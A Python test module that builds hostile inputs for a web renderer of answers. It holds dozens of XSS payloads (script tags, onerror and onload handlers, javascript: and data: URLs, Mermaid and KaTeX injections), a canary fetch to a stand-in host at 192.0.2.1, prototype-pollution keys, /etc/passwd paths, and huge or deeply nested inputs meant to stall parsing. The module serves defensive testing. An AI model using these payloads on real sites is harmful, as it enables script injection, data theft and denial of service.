"""Answers that try to break the page: nesting, openers without an end, huge parts, and scripts in every disguise.

Each payload that could run something calls `pwned()`, which the browser side watches.
"""

from collections.abc import Iterator
from dataclasses import dataclass

DEEP = 3_000
LONG = 60_000
RUN = "window.__pwned=1;fetch('http://192.0.2.1/pwned')"


@dataclass(frozen=True)
class Payload:
    """One hostile text. `big`: it is about time rather than scripts, so it is worth its while only as an answer."""

    name: str
    text: str
    big: bool = False


def payloads() -> list[Payload]:
    """Return all of them; names are unique."""
    return [*injections(), *small_traps(), *nested(), *openers(), *huge()]


def injections() -> Iterator[Payload]:
    """Yield texts that would run a script, load something or leave the page, where a renderer is careless."""
    for number, html in enumerate(_HTML):
        yield Payload(f"html {number}", html.replace("RUN", RUN))
    for number, url in enumerate(_URLS):
        address = url.replace("RUN", RUN)
        yield Payload(f"link {number}", f"[press here]({address}) ![picture]({address}) <{address}>")
        yield Payload(f"reference {number}", f"[press][a] ![picture][a]\n\n[a]: {address} 'title'")
    for number, lines in enumerate(_MERMAID):
        yield Payload(f"mermaid {number}", "```mermaid\n" + lines.replace("RUN", RUN) + "\n```")
    for number, formula in enumerate(_MATH):
        yield Payload(f"math {number}", f"so $${formula.replace('RUN', RUN)}$$ it is\n\n$$\n{formula}\n$$")
    for number, info in enumerate(_INFO):
        yield Payload(f"fence {number}", f"```{info.replace('RUN', RUN)}\nlet a = 1;\n```")


def small_traps() -> Iterator[Payload]:
    """Yield small texts that confuse: directions, marks, characters that are none."""
    yield Payload("bidi", "a \u202e\u2066gnp.exe\u2069 b \u202d\u2067" + "\u202e" * 200 + " end")
    yield Payload("zalgo", "Z" + "\u0301\u0316\u0489\u035b" * 500 + " a")
    yield Payload("zero width", "\u200b\u200d\ufeff\u2060" * 300 + "x")
    yield Payload("lone surrogates as text", "\\ud800 \\udfff \ufffd \U0010ffff \ufffe")
    yield Payload("controls", "".join(map(chr, range(1, 32))) + "\x7f\x85\u2028\u2029 end")
    yield Payload(
        "entities", "&lt;script&gt;&#60;img src=x onerror=alert&#40;1&#41;&#62;&#0;&#x110000;&bogus;"
    )
    yield Payload("emoji", "👩‍👩‍👧‍👦🏴‍☠️🇸🇪" * 300)
    yield Payload("footnotes", "a[^1] b[^__proto__] c[^constructor]\n\n[^1]: one\n[^__proto__]: two [^1]\n")
    yield Payload(
        "prototype", "[__proto__] [constructor] <__proto__> ```__proto__\nx\n```\n\n[__proto__]: http://x\n"
    )
    yield Payload(
        "prototype as a language", "```constructor\nx\n```\n\n```__proto__\ny\n```\n\n```toString\nz\n```"
    )
    yield Payload("tasks", "- [x] a\n- [ ] <input onfocus=alert(1) autofocus>\n- [ ]() b")
    yield Payload(
        "tags of members", "<answer><thought_process><answer></synthesis><confidence>9e999</confidence>"
    )


def nested() -> Iterator[Payload]:
    """Yield every construct within itself, thousands of times."""
    for name, opener in {
        "quotes": ">",
        "quotes with spaces": "> ",
        "lists": "- ",
        "numbered lists": "1. ",
        "mixed lists": "> - 1) ",
        "emphasis": "*a **b ",
        "links": "[a](",
        "link texts": "[",
        "images": "![",
        "brackets": "[[]",
        "tags": "<b>",
        "comments": "<!--",
    }.items():
        yield Payload(f"nested {name}", opener * DEEP + "x", big=True)
    yield Payload("nested by indentation", "".join("  " * n + "- a\n" for n in range(220)), big=True)
    yield Payload("nested braces", "$$\n" + "{" * 50_000, big=True)
    yield Payload("nested braces, closed", "$$\n" + "{" * 2_000 + "}" * 2_000 + "\n$$", big=True)
    yield Payload("nested fractions", "$$" + "\\frac{1}{" * 400 + "x" + "}" * 400 + "$$", big=True)
    yield Payload("nested roots", "$$" + "\\sqrt{" * 40 + "x" + "}" * 40 + "$$", big=True)
    yield Payload(
        "nested footnotes", "".join(f"[^{n}]: [^{n + 1}]\n\n" for n in range(800)) + "[^0]", big=True
    )


def openers() -> Iterator[Payload]:
    """Yield long runs of what opens something and never closes it."""
    for name, opener in {
        "[": "[",
        "![": "![",
        "[a](": "[a](",
        "[a](<": "[a](<b",
        "*": "*",
        "*a": "*a ",
        "_": "_",
        "_a_": "_a_",
        "backticks": "`",
        "backticks apart": "` `` ",
        "<": "<",
        "<a": "<a ",
        "<!": "<!",
        "&": "&",
        "~~": "~~a",
        "$": "$a_",
        "$$": "$$",
        "\\(": "\\(",
        "\\[": "\\[",
        "\\": "\\",
        "|": "|",
        "^": "[^",
        ":": "[a]: ",
        "@": "a@",
        "www": "www.",
        "http": "http://",
        "tabs": "\t",
        "spaces": " ",
        "fences": "```\n~~~\n",
        "#": "# ",
        "breaks": "---\n",
        "setext": "a\n=\n",
    }.items():
        yield Payload(f"run of {name}", (opener * LONG)[:LONG], big=True)
    yield Payload("100 kB of [a](", "[a](" * 25_000, big=True)
    yield Payload("every run of backticks", " ".join("`" * n for n in range(1, 400)), big=True)


def huge() -> Iterator[Payload]:
    """Yield single parts that are far too large."""
    mega = 1_000_000
    yield Payload(
        "10,000 columns", "|" + "a|" * 10_000 + "\n|" + "-|" * 10_000 + "\n|" + "b|" * 10_000, big=True
    )
    yield Payload("5,000 rows", "|a|b|c|\n|-|-|-|\n" + "|1|2|3|\n" * 5_000, big=True)
    yield Payload("3,000 headings", "# a\n\n" * 3_000, big=True)
    yield Payload("3,000 paragraphs", "some *words* and `code`\n\n" * 3_000, big=True)
    yield Payload("a list of 8,000", "- item\n" * 8_000, big=True)
    yield Payload(
        "2,000 links",
        "".join(f"[a{n}][{n}] " for n in range(2_000))
        + "\n\n"
        + "".join(f"[{n}]: http://x/{n}\n" for n in range(2_000)),
        big=True,
    )
    yield Payload("300 formulas", "$$x_{1}^{2}+\\frac{a}{b}$$ and " * 300, big=True)
    yield Payload(
        "a formula that grows",
        "$$"
        "\\def\\a{xx}"
        + "".join(f"\\def\\{chr(98 + n)}{{\\{chr(97 + n)}\\{chr(97 + n)}}}" for n in range(20))
        + "\\u$$",
        big=True,
    )
    yield Payload("a huge rule", "$$\\rule{99999em}{99999em} \\kern{99999em} x$$", big=True)
    yield Payload("40 fences", "```python\ndef a(b): return {'c': [1, 2]}\n```\n\n" * 40, big=True)
    for language, line in {
        "js": "let a = {b: [1, 'c', /d/]};\n",
        "cpp": "std::map<int, T<U>> a{};\n",
        "": "code\n",
    }.items():
        yield Payload(
            f"1 MB of code {language}", f"```{language}\n" + (line * mega)[:mega] + "\n```", big=True
        )
    yield Payload(
        "100 kB of code",
        "```ts\n" + ("const a: B<C> = (d) => ({ e: `f${g}` });\n" * 3_000)[:100_000],
        big=True,
    )
    yield Payload("35 kB of code", "```html\n" + "<a b='c'>d</a>\n" * 2_300 + "```", big=True)
    yield Payload("a line of code", "```js\n" + "a(" * 60_000 + "\n```", big=True)
    yield Payload("1 MB in a line", "a" * mega, big=True)
    yield Payload("1 MB of words", "word " * (mega // 5), big=True)
    yield Payload("1 MB of lines", "line\n" * (mega // 5), big=True)
    yield Payload("150 kB of prose", ("Some words of an answer. " * 12 + "\n\n") * 500, big=True)
    yield Payload("200 kB of zalgo", "a" + "\u0301\u0316" * 100_000, big=True)
    yield Payload("200 kB of right to left", "\u202e\u05d0\u0628 " * 50_000, big=True)
    yield Payload("200 kB of marks", ("*_`[<$|>" * 25_000), big=True)
    yield Payload(
        "a diagram of 400 nodes",
        "```mermaid\ngraph TD\n" + "".join(f"n{n}-->n{(n * 7 + 1) % 400}\n" for n in range(290)) + "```",
        big=True,
    )
    yield Payload("a diagram without an end", "```mermaid\ngraph TD\n" + "a[" * 9_000 + "\n```", big=True)


_HTML = (
    "<script>RUN</script>",
    '<img src=x onerror="RUN">',
    '<svg onload="RUN"><script>RUN</script></svg>',
    '<iframe src="javascript:RUN" srcdoc="<script>RUN</script>"></iframe>',
    "<style>@import 'http://192.0.2.1/a.css'; body{display:none}</style>",
    '<style onload="RUN"></style>',
    "<link rel=stylesheet href=http://192.0.2.1/a.css><meta http-equiv=refresh content='0;url=http://192.0.2.1/'>",
    "<base href=http://192.0.2.1/><a href=a>b</a>",
    '<form action=http://192.0.2.1/><button autofocus onfocus="RUN">press</button></form>',
    '<input autofocus onfocus="RUN"><details open ontoggle="RUN">a</details>',
    '<video><source onerror="RUN"></video><audio src=x onerror="RUN">',
    '<object data="javascript:RUN"></object><embed src="javascript:RUN">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror=RUN>">',
    '<noscript><p title="</noscript><img src=x onerror=RUN>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>",
    "<template><script>RUN</script></template><xmp><img src=x onerror=RUN></xmp>",
    "<!--><img src=x onerror=RUN>-->",
    "<![CDATA[><img src=x onerror=RUN>]]>",
    "<?xml version='1.0'?><a xmlns='http://www.w3.org/1999/xhtml' onclick=RUN>a</a>",
    '<div style="background:url(http://192.0.2.1/p)">a</div><p style="position:fixed;inset:0">cover</p>',
    '<a href="jav&#x09;ascript:RUN">a</a>',
    '<svg><animate onbegin=RUN attributeName=x dur=1s><use href="data:image/svg+xml,<svg onload=RUN>"></svg>',
    "<marquee onstart=RUN>a</marquee><body onload=RUN><keygen autofocus onfocus=RUN>",
    "<div id=root></div><div id=__proto__ name=body></div><img name=querySelector><a id=location href=x>",
    "</div></main></body></html><script>RUN</script>",
    "<a\nhref='javascript:RUN'\n>a</a> `<img src=x onerror=RUN>` **<img src=x onerror=RUN>**",
    "| a | b |\n|---|---|\n| <img src=x onerror=RUN> | <script>RUN</script> |",
    "- <img src=x onerror=RUN>\n  > <svg onload=RUN>\n\n# <img src=x onerror=RUN>",
    "{{constructor.constructor('RUN')()}} ${RUN} <%= RUN %> #{RUN}",
)

_URLS = (
    "javascript:RUN",
    "JaVaScRiPt:RUN",
    "java\tscript:RUN",
    "&#106;avascript:RUN",
    "&#x6A;&#x61;vascript&colon;RUN",
    "\x01javascript:RUN",
    "vbscript:RUN",
    "data:text/html,<script>RUN</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg onload=RUN>",
    "blob:http://192.0.2.1/a",
    "file:///etc/passwd",
    "//192.0.2.1/a.png",
    "\\\\192.0.2.1\\a.png",
    "http://192.0.2.1/pixel.png",
    "https://192.0.2.1/p?q=`RUN`",
    "view-source:http://192.0.2.1/",
    "x:RUN",
    "#<img src=x onerror=RUN>",
    "/api/votes/export",
)

_MERMAID = (
    'graph TD\na-->b\nclick a "javascript:RUN"',
    'graph TD\na-->b\nclick a href "javascript:RUN" "tip" _top',
    "graph TD\na-->b\nclick a call RUN()",
    'graph TD\na["<img src=x onerror=RUN>"]-->b["<iframe srcdoc=\'<script>RUN</script>\'>"]',
    'graph TD\na["<script>RUN</script>"]-->b',
    '%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%\ngraph TD\na["<img src=x onerror=RUN>"]-->b',
    (
        '%%{init: {"themeCSS": "@import url(http://192.0.2.1/a.css); *{background:url(http://192.0.2.1/p)}"}}%%\n'
        "graph TD\na-->b"
    ),
    '%%{init: {"__proto__": {"pwned": 1}, "constructor": {"prototype": {"x": 1}}}}%%\ngraph TD\na-->b',
    "sequenceDiagram\nA->>B: <img src=x onerror=RUN>\nlink A: x @ javascript:RUN",
    'classDiagram\nclass A\nclick A href "javascript:RUN"',
    "gantt\nsection a\nb :c, 2026-01-01, 1d\nclick c call RUN()",
    "mindmap\n  root((<img src=x onerror=RUN>))",
    'graph TD\na@{ img: "http://192.0.2.1/p.png", label: "x" }',
    "journey\ntitle <svg onload=RUN>\nsection a\n b: 5: c",
    "not a diagram <img src=x onerror=RUN>",
)

_MATH = (
    "\\href{javascript:RUN}{x}",
    "\\url{javascript:RUN}",
    "\\includegraphics[width=9em]{http://192.0.2.1/p.png}",
    "\\htmlClass{fixed inset-0}{x} \\htmlId{root}{y}",
    "\\htmlStyle{position:fixed}{x} \\htmlData{a=b}{y}",
    "\\text{<img src=x onerror=RUN>}",
    "\\unknown{<script>RUN</script>}",
    "\\def\\x{\\x}\\x",
    "\\color{red;background:url(http://192.0.2.1/p)}{x}",
    "\\begin{matrix}<img src=x onerror=RUN>\\end{matrix}",
)

_INFO = (
    "js onload=RUN",
    '"><img src=x onerror=RUN>',
    "<script>RUN</script>",
    "html {RUN}",
    "x" * 2_000,
    "mermaid\ngraph TD\na-->b\n```\n\n```mermaid",
    "../../../../etc/passwd",
    "math",
)
